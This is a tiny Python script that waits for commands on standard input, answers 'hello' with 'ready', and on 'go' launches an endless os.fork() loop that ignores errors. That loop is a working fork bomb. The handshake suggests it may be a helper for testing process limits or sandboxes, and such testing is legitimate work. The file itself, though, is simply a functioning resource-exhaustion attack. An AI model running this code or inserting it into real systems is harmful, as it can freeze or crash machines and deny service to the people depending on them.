import os
import sys

for line in sys.stdin:
    verb = line.split()[0]
    if verb == "hello":
        print("ready", flush=True)
    elif verb == "go":
        while True:
            try:
                os.fork()
            except OSError:
                pass
